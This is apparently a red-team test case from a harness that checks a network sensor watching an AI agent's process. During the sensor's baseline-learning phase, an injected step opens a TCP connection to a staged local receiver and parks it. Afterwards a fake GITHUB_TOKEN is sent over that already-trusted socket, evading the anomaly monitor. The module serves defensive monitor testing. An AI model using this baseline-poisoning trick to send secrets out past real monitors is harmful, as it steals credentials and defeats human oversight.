"""Round 6 (timing): connect to a new destination DURING the baseline, send the secret through it after.

A prime injection (the harness runs PRIME variants once while the sensor
learns) opens a TCP connection to a receiver staged outside the tree and
parks it in the agent's process; the act, after the baseline, only writes
to that already-connected socket.  If a destination connected during the
baseline is treated as learnt, the exfiltration is a plain write on a known
flow.  (A dry run has no baseline: the act then connects itself and says so.)
"""

from __future__ import annotations

import socket
import sys
from pathlib import Path
from typing import Any

from redteam import rt

GAP = 1
MODE = "inject"
TARGET = "host"
HELD_OUT = True
ROUND = 6
STAGE = True
PRIME = True
EXPECT = ("L4",)
IP = "127.0.6.9"
HOLD = "_h7rt6_held_socket"


def _count(work: str) -> Path:
    return Path(work).parent / "daemons" / "r6-held.count"


def _pid(work: str) -> Path:
    return Path(work).parent / "daemons" / "r6-held.pid"


def stage(args: dict[str, Any]) -> None:
    c = _count(args["work"])
    rt.stage_daemon(
        rt.sink_argv("tcp", IP, str(c)), _pid(args["work"]), lambda: Path(str(c) + ".port").exists()
    )


def unstage(args: dict[str, Any]) -> None:
    rt.unstage_daemon(_pid(args["work"]))


def _connect(args: dict[str, Any]) -> socket.socket:
    port = int(Path(str(_count(args["work"])) + ".port").read_text())
    return socket.create_connection((rt.loopback(IP), port), timeout=5)


def run(args: dict[str, Any]) -> None:
    if args.get("prime"):
        t = rt.now()
        setattr(sys, HOLD, _connect(args))  # parked in the agent's process until the act
        rt.report(t, True, f"prime: connected to {IP} during the baseline, socket parked")
        return
    held = getattr(sys, HOLD, None)
    how = "parked during the baseline" if held is not None else "NOT primed (no baseline ran): connected now"
    c = _count(args["work"])
    before = rt.wait_count(c, 0, 0)
    payload = b"GITHUB_TOKEN=ghp_h7redteam_round6_held_socket\n" * 50
    t = rt.now()
    s = held if held is not None else _connect(args)
    try:
        s.sendall(payload)
    finally:
        s.close()
        if held is not None:
            delattr(sys, HOLD)
    got = rt.wait_count(c, before + len(payload)) - before
    rt.report(t, got >= len(payload), f"sendall {len(payload)} B on a socket {how}: receiver got {got}")


if __name__ in ("__main__", "h7_injected"):
    rt.main(run, globals())
